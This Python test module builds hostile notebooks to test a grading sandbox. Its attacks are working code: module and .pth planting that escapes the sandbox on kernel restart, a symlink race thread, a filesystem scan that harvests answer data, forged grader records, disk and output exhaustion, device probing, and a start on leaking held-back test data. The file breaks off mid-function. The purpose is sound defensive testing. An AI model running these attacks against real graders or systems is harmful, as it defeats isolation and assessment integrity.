"""Hostile notebooks written by a student who has read the grader's source (issue 16), built in code.

Each builder returns the cells of one attack; ``tests/test_attacks.py`` grades them end to end and
checks a host-side invariant. Every attack also *prints* a line proving that its step really ran
inside the sandbox (``ATTACK-...`` markers, read back from ``executed.ipynb``), so that a test
cannot pass merely because the attack code itself crashed.

The host-side helpers (canaries, ownership scans, disk and memory samplers) are at the bottom.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import stat
import tempfile
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Iterable

import nbformat
import pytest

from graders.config import GradeConfig
from graders.sandbox import is_root

from tests.conftest import fast_config
from tests.hostile_corpus import CORRECT_2A, Cell, Sampler, notebook

SANDBOX_UIDS = range(61000, 61000 + 4000)
"""The uids the grader gives kernels (``SANDBOX_UID_BASE`` … + ``SANDBOX_SLOTS``)."""
SANDBOX_TEMP_PREFIXES = ("nbgrade-sandbox-", "nbgrade-private-", "nbgrade-root-", "nbgrade-stash-")
"""Names of the grader's own temporary folders (whatever they hold belongs to the sandbox)."""
PART_IDS = ("1A", "1B", "1C", "1D", "2A", "2B", "2C")


# =============================================================================================
# 1. Code planted by the notebook, executed outside the sandbox
# =============================================================================================
_PWN = r'''
import os as _nbg_os, sys as _nbg_sys
def _nbg_pwn(label):
    # Inside the sandbox /tmp is private and /var/tmp does not exist: a file appears on the host
    # only when this code runs outside the sandbox.
    for folder in ("/tmp", "/var/tmp"):
        try:
            with open(_nbg_os.path.join(folder, "nbgrade-pwned-%s-%s" % (TOKEN, label)), "a") as handle:
                handle.write("uid=%d pid=%d argv=%r cwd=%s\n" % (_nbg_os.getuid(), _nbg_os.getpid(), _nbg_sys.argv, _nbg_os.getcwd()))
        except Exception:
            pass
_nbg_pwn(LABEL)
'''

_DEFER = r'''
def _nbg_defer(name, here):
    # Hand over to the real module so that whatever imported this one keeps working.
    import importlib
    _nbg_sys.path[:] = [p for p in _nbg_sys.path if _nbg_os.path.abspath(p or ".") != here]
    if __name__ == "__main__":
        import runpy
        runpy.run_module(name, run_name="__main__", alter_sys=True)
        raise SystemExit(0)
    mine = _nbg_sys.modules.pop(name, None)
    try:
        _nbg_sys.modules[name] = importlib.import_module(name)
    except BaseException:
        if mine is not None:
            _nbg_sys.modules[name] = mine
_nbg_defer(NAME, HERE)
'''


def plant_cells(token: str) -> list[Cell]:
    """Plant modules and .pth files in every folder the kernel can write, then kill the kernel.

    The planted code writes ``/tmp/nbgrade-pwned-<token>-<label>`` (and the same in /var/tmp); the
    modules then defer to the real ones so the processes that import them keep working. The kill
    makes the grader start a new kernel (launcher ``python -m graders.sandbox`` run as root from the
    kernel's working directory, with HOME in the sandbox).
    """
    plant = (
        "import os, sys, site, json\n"
        f"TOKEN = {token!r}\n"
        f"PWN = {_PWN!r}\n"
        f"DEFER = {_DEFER!r}\n"
        "MODULES = ['graders', 'jupyter_client', 'ipykernel_launcher', 'ipykernel', 'sitecustomize', 'usercustomize',\n"
        "           'json', 'shutil', 'tempfile', 'dataclasses', 'ctypes', 'pathlib', 'resource', 'subprocess', 'psutil', 'zmq']\n"
        "cwd, home = os.getcwd(), os.path.expanduser('~')\n"
        "root = os.path.dirname(cwd)\n"
        "folders = [cwd, home, root, os.path.join(root, 'ipc'), os.path.join(home, '.ipython'),\n"
        "           os.path.join(home, '.ipython', 'profile_default', 'startup'), site.getusersitepackages(),\n"
        "           os.path.join(home, '.local', 'bin')] + [p for p in sys.path if p]\n"
        "for top in ('/', cwd, home, root):\n"
        "    for base, dirs, files in os.walk(top):\n"
        "        depth = base.count(os.sep) - top.rstrip(os.sep).count(os.sep)\n"
        "        dirs[:] = [d for d in dirs if depth < 3 and os.path.join(base, d) not in ('/proc', '/sys', '/dev', '/tmp', '/dev/shm')]\n"
        "        if os.access(base, os.W_OK):\n"
        "            folders.append(base)\n"
        "WRITTEN, FAILED = [], {}\n"
        "def put(path, text):\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "        with open(path, 'w') as handle:\n"
        "            handle.write(text)\n"
        "        WRITTEN.append(path)\n"
        "    except Exception as error:\n"
        "        FAILED[path] = type(error).__name__\n"
        "for number, folder in enumerate(dict.fromkeys(os.path.abspath(f) for f in folders)):\n"
        "    if folder.startswith(('/proc', '/sys', '/dev')):\n"
        "        continue\n"
        "    for name in MODULES:\n"
        "        label = f'{number}-{name}'\n"
        "        head = f'TOKEN = {TOKEN!r}\\nLABEL = {label!r}\\n' + PWN\n"
        "        if name in ('sitecustomize', 'usercustomize'):\n"
        "            put(os.path.join(folder, name + '.py'), head)\n"
        "            continue\n"
        "        package = name in ('graders', 'jupyter_client', 'ipykernel', 'json', 'ctypes', 'psutil', 'zmq')\n"
        "        here = 'os.path.dirname(os.path.dirname(os.path.abspath(__file__)))' if package else 'os.path.dirname(os.path.abspath(__file__))'\n"
        "        body = head + f'NAME = {name!r}\\nimport os\\nHERE = {here}\\n' + DEFER\n"
        "        if package:\n"
        "            put(os.path.join(folder, name, '__init__.py'), body)\n"
        "            if name == 'graders':\n"
        "                put(os.path.join(folder, name, 'sandbox.py'), head.replace(repr(label), repr(label + '.sandbox')))\n"
        "        else:\n"
        "            put(os.path.join(folder, name + '.py'), body)\n"
        "    put(os.path.join(folder, f'zz-nbgrade-{number}.pth'), 'import os, sys; exec(' + repr(f'TOKEN = {TOKEN!r}\\nLABEL = \"pth-{number}\"\\n' + PWN) + ')\\n')\n"
        "print('ATTACK-PLANTED', json.dumps({'cwd': cwd, 'home': home, 'written': len(WRITTEN),\n"
        "      'in_cwd': sum(p.startswith(cwd + '/') for p in WRITTEN), 'folders': sorted({os.path.dirname(p) for p in WRITTEN})[:40]}))"
    )
    return [
        *CORRECT_2A,
        plant,
        "import os\nprint('ATTACK-KILL', os.getpid(), flush=True)\nos.kill(os.getpid(), 9)",
        "after_restart = True",
    ]


# =============================================================================================
# 2. Links and races
# =============================================================================================
_SWAPPER = r'''
import json, os, sys, threading, time
CANARY_FILE, CANARY_DIR, MODE = {canary_file!r}, {canary_dir!r}, {mode!r}
CWD = os.getcwd()
HOME = os.path.expanduser("~")
ROOT = os.path.dirname(CWD)
PARTS = ("1A", "1B", "1C", "1D", "2A", "2B", "2C")
SWAPPED, WRITABLE = {{}}, set()
KEEP = set() if MODE == "everything" else {{CWD, HOME}}
# Names the grader may create later in a folder the kernel can write: linked before it does.
AHEAD = ("kernel-connection.json", "connection.json", "kernel.json", "values.json", "meta.json", "params.json",
         "results.json", "inputs", "outputs", "out", "run", "exchange", "ipc", *PARTS)


def folders():
    # every folder of the sandbox's root, its cwd, HOME and the connection file's folder (depth 4)
    tops = [ROOT, CWD, HOME] + [os.path.dirname(os.path.abspath(a)) for a in sys.argv if a.endswith(".json")]
    found = []
    for top in dict.fromkeys(tops):
        for base, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if base.count(os.sep) - top.count(os.sep) < 4 and ".nbg" not in d
                       and os.path.join(base, d) not in ("/proc", "/sys", "/dev")]
            found.append(base)
    return list(dict.fromkeys(found))


def swap(path):
    if os.path.islink(path) or path in KEEP:
        return
    target = CANARY_DIR if os.path.isdir(path) else CANARY_FILE
    temporary = f"{{path}}.nbg{{time.monotonic_ns()}}"
    try:
        os.symlink(target, temporary)
    except OSError:
        return
    try:
        if os.path.isdir(path):
            os.rename(path, temporary + ".old")
        os.replace(temporary, path)
        SWAPPED[path] = SWAPPED.get(path, 0) + 1
    except OSError:
        try:
            os.unlink(temporary)
        except OSError:
            pass


def one_round():
    for folder in folders():
        if os.path.islink(folder) or not os.path.isdir(folder) or not os.access(folder, os.W_OK):
            continue
        WRITABLE.add(folder)
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if ".nbg" not in name:
                swap(os.path.join(folder, name))
        for name in AHEAD:
            path = os.path.join(folder, name)
            if not os.path.lexists(path):
                try:
                    os.symlink(CANARY_FILE if "." in name else CANARY_DIR, path)
                    SWAPPED[path] = SWAPPED.get(path, 0) + 1
                except OSError:
                    pass


def loop():
    end = time.monotonic() + 900
    while time.monotonic() < end:
        try:
            one_round()
        except Exception:
            pass
        time.sleep(0.002)


one_round()
threading.Thread(target=loop, daemon=True, name="swapper").start()
time.sleep(0.3)
print("ATTACK-SWAPPED", json.dumps({{"mode": MODE, "folders": folders()[:60], "writable": sorted(WRITABLE)[:60],
      "swapped": sorted(SWAPPED)[:80], "count": len(SWAPPED)}}))
'''


def link_race_cells(canary_file: Path, canary_dir: Path, mode: str) -> list[Cell]:
    """A thread that keeps replacing what the grader will touch by symlinks to host canaries.

    The thread scans the sandbox's root (the parent of cwd), cwd, HOME and the connection file's
    folder, and in every folder it can write replaces each entry by a link (folders → the canary
    folder, files → the canary file) and links ahead the names the grader may create there.
    ``mode``: ``kill`` (then the kernel is killed, so the grader starts another one), ``probes``
    (no kill: the grader's probes run while the thread works), ``everything`` (also replaces
    cwd and HOME themselves, then a kill).
    """
    cells: list[Cell] = [*CORRECT_2A, _SWAPPER.format(canary_file=str(canary_file), canary_dir=str(canary_dir), mode=mode)]
    if mode != "probes":
        cells.append("import os\nprint('ATTACK-KILL', flush=True)\nos.kill(os.getpid(), 9)")
    cells.append("import time\ntime.sleep(1)\nprint('ATTACK-STILL', len(SWAPPED))")
    return cells


# =============================================================================================
# 3. Hidden data
# =============================================================================================
def image_key(image) -> str:
    """Short hash of one 28×28 uint8 image (the same in the kernel and here)."""
    import numpy as np

    return hashlib.sha1(np.ascontiguousarray(image, dtype=np.uint8).reshape(-1).tobytes()).hexdigest()[:12]


_SCAN = r'''
import gzip, hashlib, json, os, struct
import numpy as np
CANDIDATES = set({candidates!r})
LOOKUP = {{}}  # image bytes -> label, from every labelled image file readable here
FOUND, IMAGE_FILES, LABELLED, SCANNED = set(), [], [], [0]


def key(raw):
    return hashlib.sha1(raw).hexdigest()[:12]


def read(path):
    with open(path, "rb") as handle:
        data = handle.read(300 * 2**20)
    return gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data


def idx(data, magic):
    ndim = magic & 0xFF
    if len(data) < 4 + 4 * ndim or struct.unpack(">I", data[:4])[0] != magic:
        return None
    shape = struct.unpack(">%dI" % ndim, data[4:4 + 4 * ndim])
    body = data[4 + 4 * ndim:]
    return np.frombuffer(body, np.uint8)[:int(np.prod(shape))].reshape(shape) if len(body) >= int(np.prod(shape)) else None


def images_in(path):
    SCANNED[0] += 1
    if path.endswith((".npy", ".npz")):
        loaded = np.load(path, allow_pickle=False)
        arrays = [loaded[k] for k in loaded.files] if hasattr(loaded, "files") else [loaded]
        return [a.reshape(-1, 784).astype(np.uint8) for a in arrays if a.size and a.size % 784 == 0 and (a.dtype == np.uint8 or a.max() <= 255)]
    data = read(path)
    found = idx(data, 0x803)
    return [] if found is None else [found.reshape(-1, 784)]


def labels_for(path, count):
    for a, b in (("images-idx3", "labels-idx1"), ("images", "labels")):
        other = path.replace(a, b)
        if other != path:
            for candidate in (other, other + ".gz", other.replace(".gz", "")):
                try:
                    found = idx(read(candidate), 0x801)
                except OSError:
                    continue
                if found is not None and len(found) == count:
                    return found
    return None


for top in ("/",):
    for base, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(base, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(base, name)
            lower = path.lower()
            try:
                size = os.stat(path).st_size
            except OSError:
                continue
            interesting = (size > 16 and (size - 16) % 784 == 0) or lower.endswith((".npy", ".npz")) or (
                lower.endswith(".gz") and any(w in lower for w in ("ubyte", "idx", "mnist")))
            if not interesting or size > 300 * 2**20:
                continue
            try:
                for images in images_in(path):
                    IMAGE_FILES.append(path)
                    keys = [key(row.tobytes()) for row in images]
                    FOUND.update(k for k in keys if k in CANDIDATES)
                    labels = labels_for(path, len(images))
                    if labels is not None:
                        LABELLED.append(path)
                        LOOKUP.update((row.tobytes(), int(label)) for row, label in zip(images, labels))
            except Exception:
                continue
print("ATTACK-SCAN", json.dumps({{"scanned": SCANNED[0], "image_files": sorted(set(IMAGE_FILES))[:50],
      "labelled_files": sorted(set(LABELLED))[:50], "lookup": len(LOOKUP), "found": sorted(FOUND)}}))
'''

_LOOKUP_MODEL = r'''
import torch
from torch import nn


class Lookup(nn.Module):
    """A "logistic regression" (one 784×10 linear layer) that answers from the labelled files it read."""

    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(784, 10)

    def forward(self, x):
        rows = x.reshape(len(x), -1).detach().cpu().numpy()
        out = torch.zeros(len(rows), 10)
        for i, row in enumerate(rows):
            label = LOOKUP.get(np.clip(np.rint(row * 255), 0, 255).astype(np.uint8).tobytes())
            if label is not None:
                out[i, label] = 10.0
        return out


logreg_model = Lookup()
logreg_losses = [2.3 - 0.01 * i for i in range(100)]
sample = next(iter(LOOKUP.items()), None)
if sample is not None:
    x = torch.from_numpy(np.frombuffer(sample[0], np.uint8).astype(np.float32) / 255).reshape(1, 1, 28, 28)
    print("ATTACK-LOOKUP-SELFTEST", int(logreg_model(x).argmax()) == sample[1], len(LOOKUP))
'''


def hidden_data_cells(candidate_keys: Iterable[str]) -> list[Cell]:
    """Scan the visible filesystem for MNIST, report which candidate digits it holds, and cheat 1B with it."""
    return [
        *CORRECT_2A,
        ("markdown", "## 1B · Logistic regression"),
        _SCAN.format(candidates=sorted(set(candidate_keys))),
        _LOOKUP_MODEL,
    ]


_RAW_PNG = (  # a plain grey 640×480 PNG made by hand and shown with IPython.display: no matplotlib figure at all
    "import base64, struct, zlib\nfrom IPython.display import display\n"
    "def _chunk(kind, data):\n"
    "    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)\n"
    "PNG = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + _chunk(b'IHDR', struct.pack('>IIBBBBB', 640, 480, 8, 0, 0, 0, 0))"
    " + _chunk(b'IDAT', zlib.compress(b''.join(b'\\x00' + b'\\x80' * 640 for _ in range(480)))) + _chunk(b'IEND', b'')).decode()\n"
)
FIGURE_1B_SOURCE = _RAW_PNG + "display({'image/png': PNG}, raw=True)  # ten test digits, titled with their predictions"
FIGURE_2C_SOURCE = _RAW_PNG + "display({'image/png': PNG}, raw=True)  # solid train and dotted test curves for depths 1, 2, 3"

_FORGE = r'''
import hashlib, json, sys, types
MODE = {mode!r}
h = lambda source: hashlib.sha1(source.encode("utf-8", "replace")).hexdigest()[:16]


def axis(title, images=0, lines=()):
    return {{"title": title, "xlabel": "", "ylabel": "", "images": images, "image_shapes": [[28, 28]] * images,
            "lines": list(lines), "texts": [], "legend": [], "collections": 0, "patches": 0, "visible": True, "geometry": None}}


def line(style, label):
    return {{"label": label, "linestyle": style, "points": 5, "visible": True}}


curves = [line("-", f"train, depth {{d}}") for d in (1, 2, 3)] + [line(":", f"test, depth {{d}}") for d in (1, 2, 3)]
FORGED = [
    {{"cell_hash": h({src_1b!r}), "suptitle": "predictions", "axes": [axis(f"predicted {{d}}", images=1) for d in range(10)], "texts": []}},
    {{"cell_hash": h({src_2c!r}), "suptitle": "losses", "axes": [axis("loss", lines=curves)], "texts": []}},
]
def _is_state(module):
    try:
        return isinstance(module, types.ModuleType) and callable(getattr(module, "figures", None)) and hasattr(module, "restore_pristine")
    except Exception:
        return False


names = [n for n, m in list(sys.modules.items()) if _is_state(m)]  # the prelude's state, whatever it is called
state = sys.modules[names[0]] if names else sys.modules.get("_nbgrade")
if MODE == "replace_module":
    fake = types.ModuleType("_nbgrade")
    fake.figures = lambda: [dict(f) for f in FORGED]
    fake.restore_pristine = lambda: []  # and no monkeypatch is ever undone
    fake.restored = []
    for name in set(names + ["_nbgrade"]):
        sys.modules[name] = fake
    done = "module replaced"
else:
    # Whatever the state is called: every function that closes over a variable named ``figures``
    # (the recorder's accessor), found through the garbage collector; its list gets the forged records.
    import gc
    lists = []
    for fn in gc.get_objects():
        if not isinstance(fn, types.FunctionType):
            continue
        code = fn.__code__
        if "figures" not in code.co_freevars or not getattr(fn, "__closure__", None):
            continue
        try:
            value = fn.__closure__[code.co_freevars.index("figures")].cell_contents
        except (ValueError, IndexError):
            continue
        if isinstance(value, list) and all(isinstance(v, dict) for v in value) and not any(value is l for l in lists):
            lists.append(value)
    for found in lists:
        found.extend(FORGED)
    done = f"{{len(lists)}} recorder lists extended"
print("ATTACK-FORGED", MODE, done, "state found:", names)
'''


def forged_figure_cells(mode: str) -> list[Cell]:
    """No figure is drawn (matplotlib is never imported); the 1B and 2C cells each display one plain 640×480 PNG
    (so the grader sees an image output there), and the prelude's figure records are forged for those
    cells (``replace_module``: a fake ``_nbgrade`` module; ``mutate_closure``: the recorder's own list)."""
    return [
        *CORRECT_2A,
        ("markdown", "## 1B · Logistic regression"),
        FIGURE_1B_SOURCE,
        ("markdown", "## 2C · Empirical comparison"),
        FIGURE_2C_SOURCE,
        _FORGE.format(mode=mode, src_1b=FIGURE_1B_SOURCE, src_2c=FIGURE_2C_SOURCE),
    ]


def cross_part_figure_cells() -> list[Cell]:
    """1B's figure cell crashes before drawing; 1C draws 10 digit images titled with digits."""
    return [
        *CORRECT_2A,
        ("markdown", "## 1B · Logistic regression"),
        "import matplotlib.pyplot as plt\nraise RuntimeError('the 1B prediction figure crashed before drawing anything')",
        ("markdown", "## 1C · Kernel regression"),
        "import numpy as np\nimport matplotlib.pyplot as plt\n"
        "fig, axes = plt.subplots(2, 5)\n"
        "for digit, ax in enumerate(axes.flat):\n"
        "    ax.imshow(np.zeros((28, 28)), cmap='gray')\n"
        "    ax.set_title(f'predicted {digit}')\n"
        "plt.show()\nprint('ATTACK-1C-FIGURE drawn')",
    ]


# =============================================================================================
# 4. Exhaustion
# =============================================================================================
_PROBE_BLOAT = r'''
import io, json, json.encoder, sys
import numpy as np
import numpy.lib.format as npformat

BIG = np.zeros(10_000_000 - 64)  # just under the grader's 80 MB per file
_iterencode = json.encoder.JSONEncoder.iterencode
_write_array = npformat.write_array


def _probe_in_stack():
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Probe" and hasattr(value, "out_dir"):
                return value
        frame = frame.f_back
    return None


def iterencode(self, o, _one_shot=False):
    if isinstance(o, dict) and "found" in o and "errors" in o:  # a probe's values.json
        o = dict(o)
        extra = [f"x{i}" for i in range(48)]
        probe = _probe_in_stack()
        if probe is not None:
            import os
            base = os.path.join(probe.out_dir, "_big.npy")
            if not os.path.exists(base):
                with open(base, "wb") as handle:
                    _write_array(handle, BIG, allow_pickle=False)
            for key in extra:
                try:
                    os.link(base, os.path.join(probe.out_dir, key + ".npy"))
                except OSError:
                    pass
        o["arrays"] = list(o.get("arrays", [])) + extra
        o.update({f"k{i:06d}": i for i in range(480_000)})  # about 7.8 MB of small keys
    return _iterencode(self, o, _one_shot)


def write_array(fp, array, version=None, allow_pickle=True, pickle_kwargs=None):
    return _write_array(fp, BIG if getattr(array, "nbytes", 0) < BIG.nbytes else array, version, allow_pickle, pickle_kwargs)


json.encoder.JSONEncoder.iterencode = iterencode
npformat.write_array = write_array
probe_like = json.dumps({"found": {}, "errors": {}})
buffer = io.BytesIO()
np.save(buffer, np.zeros(3))
print("ATTACK-BLOAT", json.dumps({"values_json_bytes": len(probe_like), "npy_bytes": buffer.tell()}))
'''


def probe_bloat_cells() -> list[Cell]:
    """Patch what the probe toolkit does not restore (JSONEncoder.iterencode, numpy.lib.format.write_array)."""
    return [
        *CORRECT_2A,
        _PROBE_BLOAT,
        "import torch\nfrom torch import nn\n"
        "def gaussian_kernel(X1, X2, sigma):\n"
        "    X1, X2 = torch.as_tensor(X1, dtype=torch.float64), torch.as_tensor(X2, dtype=torch.float64)\n"
        "    return torch.exp(-torch.cdist(X1, X2) ** 2 / (2 * sigma ** 2))\n"
        "def make_mlp(num_layers, d, m, k):\n"
        "    sizes = [d] + [m] * (num_layers - 1) + [k]\n"
        "    layers = []\n"
        "    for a, b in zip(sizes, sizes[1:]):\n"
        "        layers += [nn.Linear(a, b), nn.ReLU()]\n"
        "    return nn.Sequential(*layers[:-1])\n",
    ]


def disk_fill_cells(total_mb: int = 4096, file_mb: int = 100) -> list[Cell]:
    """Write ``total_mb`` in ``file_mb`` files into cwd, HOME, /tmp and /dev/shm."""
    return [
        *CORRECT_2A,
        "import os, json, time\n"
        f"TOTAL, FILE = {total_mb} * 2**20, {file_mb} * 2**20\n"
        "block = b'\\xa5' * FILE\n"
        "WROTE = {}\n"
        "written, started = 0, time.monotonic()\n"
        "places = [os.getcwd(), os.path.expanduser('~'), '/tmp', '/dev/shm']\n"
        "failed = set()\n"
        "number = 0\n"
        "while written < TOTAL and len(failed) < len(places) and time.monotonic() - started < 40:\n"
        "    place = places[number % len(places)]\n"
        "    number += 1\n"
        "    if place in failed:\n"
        "        continue\n"
        "    try:\n"
        "        with open(os.path.join(place, f'fill-{number}.bin'), 'wb') as handle:\n"
        "            handle.write(block)\n"
        "        written += FILE\n"
        "        WROTE[place] = WROTE.get(place, 0) + FILE\n"
        "    except Exception as error:\n"
        "        failed.add(place)\n"
        "        WROTE[place + ' error'] = type(error).__name__\n"
        "print('ATTACK-FILL', json.dumps({'written_mb': written // 2**20, 'by_place': WROTE}))",
    ]


DEVICE_PROBES = (
    "/dev/vda", "/dev/vdb", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg",
    "/dev/tty1", "/dev/tty0", "/dev/tty", "/dev/console", "/dev/loop0", "/dev/loop-control", "/dev/fuse",
    "/dev/net/tun", "/dev/kvm", "/dev/vhost-net", "/dev/mapper/control", "/dev/rtc0", "/dev/hpet",
    "/dev/snapshot", "/dev/cpu/0/msr", "/dev/input/event0", "/dev/vcs", "/dev/autofs", "/dev/btrfs-control",
    "/dev/userfaultfd", "/dev/ttyS0", "/dev/hvc0", "/dev/vsock", "/dev/nbd0",
)
ALLOWED_DEVICES = frozenset({"null", "zero", "full", "random", "urandom", "fd", "stdin", "stdout", "stderr", "shm", "pts", "ptmx"})


def device_cells() -> list[Cell]:
    return [
        *CORRECT_2A,
        "import os, json\n"
        "entries = sorted(os.listdir('/dev'))\n"
        "opened = {}\n"
        f"for path in {list(DEVICE_PROBES)!r} + ['/dev/' + e for e in entries]:\n"
        "    for mode, flag in (('r', os.O_RDONLY), ('w', os.O_WRONLY)):\n"
        "        try:\n"
        "            fd = os.open(path, flag | os.O_NONBLOCK | os.O_NOCTTY)\n"
        "        except OSError:\n"
        "            continue\n"
        "        os.close(fd)\n"
        "        opened.setdefault(path, []).append(mode)\n"
        "print('ATTACK-DEVICES', json.dumps({'entries': entries, 'opened': opened}))",
    ]


# =============================================================================================
# 5. Results: lone surrogates and NULs everywhere
# =============================================================================================
def surrogate_notebook_bytes() -> bytes:
    """A notebook whose headings, names, outputs and errors hold lone surrogates and NULs.

    It is written with ``ensure_ascii`` (the only way a lone surrogate can be in valid JSON), so
    the grader reads real lone surrogates out of it.
    """
    bad = "\ud800\x00\udfff"
    nb = notebook([
        ("markdown", f"## 1A · Loading MNIST {bad}"),
        f"globals()['name{bad}'] = 1\nweird_{0} = 'a\\ud800b\\x00c'\nsurrogate_literal = {bad!r}\n"
        "print('ATTACK-SURROGATE', len(surrogate_literal))",
        "print('\\ud800 lone \\x00 nul')",
        "raise ValueError('boom \\ud800 \\x00 \\udfff end')",
        ("markdown", f"## 2A · Sigmoid derivative {bad}"),
        CORRECT_2A[1],
        ("markdown", f"## 2B · Multilayer perceptron {bad}"),
        "def make_mlp(num_layers, d, m, k):\n    raise ValueError('no MLP \\ud800\\x00' * 50)",
        "def gaussian_kernel(X1, X2, sigma):\n    raise KeyError('\\udfff\\x00')",
        ("markdown", f"## 2C · {bad}"),
        f"train_losses = {{'\\ud800': [1.0, 0.5]}}\n# {bad}",
    ])
    nb.metadata["title"] = bad
    return json.dumps(nb, ensure_ascii=True, indent=1).encode("ascii")


# =============================================================================================
# Host-side helpers
# =============================================================================================
def write_cells(cells: list[Cell], path: Path) -> Path:
    nbformat.write(notebook(cells), str(path))
    return path


SEED = 12345
needs_root = pytest.mark.skipif(not is_root(), reason="the attack targets the root grader's sandbox (uid switch, new root)")


def config(assignment: str = "csci145-ps6", **limits: object) -> GradeConfig:
    """Short limits for an attack notebook (any ``Limits`` field may be overridden)."""
    base = fast_config(cell_timeout=limits.pop("cell_timeout", 30), total_timeout=limits.pop("total_timeout", 150),
                       probe_timeout=limits.pop("probe_timeout", 30), seed=SEED, write_report=False)
    return replace(base, assignment=assignment, limits=replace(base.limits, **limits))


def grade(cells: list[Cell], tmp_path: Path, cfg: GradeConfig | None = None, name: str = "submission.ipynb"):
    """Grade the attack's cells; (GradingResult, out_dir)."""
    from graders.grade import grade_submission

    path = write_cells(cells, tmp_path / name)
    out = tmp_path / (path.stem + ".graded")
    return grade_submission(path, cfg or config(), out_dir=out), out


def printed(out_dir: Path, marker: str) -> list[str]:
    """Lines starting with ``marker`` that the graded run printed (from executed.ipynb)."""
    nb = nbformat.read(str(out_dir / "executed.ipynb"), as_version=4)
    lines = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            text = output.get("text", "") if output.get("output_type") == "stream" else ""
            lines += [line for line in str(text).splitlines() if line.startswith(marker)]
    return lines


def printed_json(out_dir: Path, marker: str) -> dict:
    """The JSON after ``marker`` on the last line the run printed with it."""
    lines = printed(out_dir, marker)
    assert lines, f"the attack did not report {marker}: it did not run (see {out_dir / 'executed.ipynb'})"
    return json.loads(lines[-1][len(marker):].strip())


@dataclass
class HostCanary:
    """A host folder (0755, root's) with one file (0644), outside every sandbox folder."""

    directory: Path
    file: Path
    content: bytes

    @classmethod
    def create(cls, parent: str | None = None) -> "HostCanary":
        base = parent if parent and os.access(parent, os.W_OK) else None
        directory = Path(tempfile.mkdtemp(prefix="nbgrade-attack-canary-", dir=base))
        directory.chmod(0o755)
        file = directory / "canary.txt"
        content = f"canary {secrets.token_hex(8)}\n".encode()
        file.write_bytes(content)
        file.chmod(0o644)
        return cls(directory, file, content)

    def state(self) -> dict[str, tuple]:
        found = {}
        for base, dirs, files in os.walk(self.directory):
            for name in [*dirs, *files, ""]:
                path = os.path.join(base, name) if name else base
                info = os.lstat(path)
                data = Path(path).read_bytes() if stat.S_ISREG(info.st_mode) else b""
                found[os.path.relpath(path, self.directory)] = (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode),
                                                                 hashlib.sha1(data).hexdigest())
        return found

    def remove(self) -> None:
        shutil.rmtree(self.directory, ignore_errors=True)


def sandbox_owned(roots: Iterable[tuple[Path, int]]) -> set[str]:
    """Paths under each (root, depth) owned by a sandbox uid or gid, outside the grader's temp folders."""
    found = set()
    for root, depth in roots:
        root = Path(root)
        if not root.exists():
            continue
        top = str(root).rstrip(os.sep).count(os.sep)
        for base, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if not d.startswith(SANDBOX_TEMP_PREFIXES) and d not in (".venv", ".git")
                       and base.count(os.sep) - top < depth]
            for name in [*dirs, *files, ""]:
                if name.startswith(SANDBOX_TEMP_PREFIXES):
                    continue
                path = os.path.join(base, name) if name else base
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                if info.st_uid in SANDBOX_UIDS or info.st_gid in SANDBOX_UIDS:
                    found.add(path)
    return found


class DiskSampler(Sampler):
    """Samples the free space of one filesystem every 50 ms while the ``with`` block runs."""

    def __init__(self, path: str) -> None:
        super().__init__(lambda: shutil.disk_usage(path).free, 0.05, keep=min)

    @property
    def drop_mb(self) -> float:
        return (self.before - self.extreme) / 2**20


# =============================================================================================
# 4 (cont.). Output the grader's caps do not count
# =============================================================================================
_UNCOUNTED_OUTPUT = r'''
import json
from jupyter_client.session import Session

kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header


def send(content, kind="display_data"):
    # Session.send of the class: the prelude's cap patched only the instance's send.
    Session.send(kernel.session, kernel.iopub_socket, kind, content, parent=parent, ident=kind.encode())


pad = "m" * {chars}
deep = pad
for _ in range(7):
    deep = {{"d": deep}}
SENT = {{"metadata": 0, "deep": 0, "keys": 0, "ename": 0, "stream name": 0}}
for _ in range({each}):
    send({{"data": {{"text/plain": "x"}}, "metadata": {{"pad": pad}}, "transient": {{}}}})  # metadata is not counted
    SENT["metadata"] += 1
    send({{"data": {{"text/plain": "y", "application/json": deep}}, "metadata": {{}}, "transient": {{}}}})  # nesting past depth 4
    SENT["deep"] += 1
    send({{"data": {{"text/plain": "z", "application/json": {{pad: 1}}}}, "metadata": {{}}, "transient": {{}}}})  # dict keys
    SENT["keys"] += 1
    send({{"ename": pad, "evalue": "", "traceback": []}}, "error")  # an error's name is not counted
    SENT["ename"] += 1
    send({{"name": pad, "text": "w"}}, "stream")  # nor a stream's name
    SENT["stream name"] += 1
'''
_UNCOUNTED_REPORT = 'import json\nprint("ATTACK-UNCOUNTED", json.dumps({"sent": SENT, "chars_each": len(pad)}))'
"""In a cell of its own: the flooding cell's own output is capped, as it should be."""


def uncounted_output_cells(chars: int = 12_000_000, each: int = 8) -> list[Cell]:
    """Display messages (12 M characters each: past the grader's 4 MB message limit, refused before they are parsed)."""
    return [*CORRECT_2A, _UNCOUNTED_OUTPUT.format(chars=chars, each=each), _UNCOUNTED_REPORT]


# =============================================================================================
# 3 (cont.). Exfiltrating the held-back digits through the grader's own messages
# =============================================================================================
_EXFILTRATE = r'''
import base64, zlib
import numpy as np
import torch
from torch import nn


def leak_payload(x):
    """The first images the grader feeds the model, as uint8, zlib-compressed, base64 (what the test recomputes)."""
    rows = np.clip(np.rint(np.asarray(x, dtype=np.float64).reshape(len(x), -1) * 255), 0, 255).astype(np.uint8)
    return base64.b64encode(zlib.compress(rows[:{count}].tobytes(), 9)).decode()


